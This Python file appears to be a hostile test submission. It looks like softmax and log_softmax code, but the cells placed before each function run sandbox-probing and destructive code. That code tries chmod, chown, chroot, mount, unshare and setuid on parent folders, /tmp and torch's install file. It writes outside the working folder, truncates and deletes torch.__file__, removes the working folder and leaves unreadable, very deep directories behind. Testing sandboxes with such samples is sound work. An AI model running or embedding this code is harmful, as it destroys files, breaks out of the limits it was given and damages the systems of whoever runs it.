"""Changes files that are not its own, and the folder that it was given."""

import torch

# %% flags
[("disk-limit", ""), ("not-available", ""), ("sandbox-violation", ""), ("suspect-code", "")]

# %% extra before softmax
import ctypes
import os
import shutil
from pathlib import Path

libc = ctypes.CDLL(None, use_errno=True)
home = os.getcwd()
targets = [home, "..", "../..", "/tmp", torch.__file__, "/dev/null", "/dev/shm", "/work/main", "helper.py"]


def attempt(what, trick, where=targets):
    for path in where:
        try:
            trick(path)
        except OSError:
            continue
        print("FOUND", what, path)
    print(what)


def call(name, *arguments):
    if getattr(libc, name)(*arguments) < 0:
        raise OSError(ctypes.get_errno(), name)


attempt("tried chmod", lambda path: os.chmod(path, 0o777))
attempt("tried fchmod", lambda path: os.fchmod(os.open(path, os.O_RDONLY), 0o777))
attempt("tried chown", lambda path: os.chown(path, os.getuid(), os.getgid()))
attempt("tried utime", lambda path: os.utime(path))
attempt("tried setxattr", lambda path: os.setxattr(path, "user.hostile", b"1"))
attempt("tried chattr", lambda path: call("ioctl", os.open(path, os.O_RDONLY), 0x40086602, b"\x10\0\0\0"))
attempt("tried links", lambda path: os.link(path, "hostile-link"))
attempt("tried symbolic links", lambda path: os.symlink(path, "hostile-symlink"))
attempt("tried pipes and devices", lambda path: os.mkfifo(f"{home}/hostile-fifo"))
attempt("tried mknod", lambda path: os.mknod("hostile-node", 0o020666, os.makedev(1, 3)))
attempt("tried chroot", lambda path: os.chroot(path))
attempt("tried mount", lambda path: call("mount", path.encode(), b".", b"", 4096, b""))
attempt("tried unshare", lambda path: call("unshare", 0x10000000))
attempt("tried setuid", lambda path: os.setuid(0))
attempt("tried umask of others", lambda path: call("syscall", 95, 0))
outside = [f"{path}/hostile-{os.getpid()}" for path in ("..", "../..", "/tmp", "/var/tmp", "/dev/shm", "/dev/mqueue")]
attempt("tried files outside", lambda path: open(path, "w"), outside)
attempt("tried folders outside", lambda path: os.mkdir(path), outside)
Path("mine").write_text("x")
attempt("tried moving outside", lambda path: os.rename("mine", path), outside)
attempt("tried truncating", lambda path: os.truncate(path, 0), [torch.__file__, "../stderr", "/tmp/x"])
attempt("tried unlinking", lambda path: os.unlink(path), [torch.__file__, "../stderr"])
attempt("tried renaming the folder", lambda path: os.rename(home, path), outside)
attempt("tried removing it", lambda path: (shutil.rmtree(home, ignore_errors=True), os.rmdir(home)), [home])
os.chmod("/tmp", 0o777)

# %% softmax
def softmax(z):
    e = torch.exp(z - z.amax(dim=-1, keepdim=True))
    return e / e.sum(dim=-1, keepdim=True)

# %% extra before log_softmax
# What is left behind is hard to list and to remove.
print("leaving closed and deep folders")
for mode in (0o000, 0o300, 0o500):
    os.mkdir(f"{home}/closed-{mode}", mode)
try:
    os.chdir(home)
    for depth in range(60):
        os.mkdir("x" * 200)
        os.chdir("x" * 200)
finally:
    os.chdir("/usr/lib")

# %% log_softmax
def log_softmax(z):
    shifted = z - z.amax(dim=-1, keepdim=True)
    return shifted - torch.log(torch.exp(shifted).sum(dim=-1, keepdim=True))
